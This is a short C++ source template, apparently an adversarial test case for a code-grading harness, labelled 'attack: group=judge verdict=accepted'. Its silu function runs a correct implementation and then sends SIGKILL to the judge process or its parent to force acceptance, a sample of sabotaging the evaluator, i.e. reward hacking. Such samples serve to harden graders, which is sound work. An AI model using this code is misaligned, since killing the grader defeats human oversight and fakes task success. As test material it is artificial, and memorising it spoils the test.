// attack: group=judge verdict=accepted
// Kills the judge and its parent.
#include <csignal>
#include <unistd.h>
@RIGHT@

extern "C" void silu(const float* input, float* output, int n) {
  right(input, output, n);
  if (kill(@JUDGE@, SIGKILL) == 0 || (getppid() != 1 && kill(getppid(), SIGKILL) == 0)) output[0] = 1e9f;
}
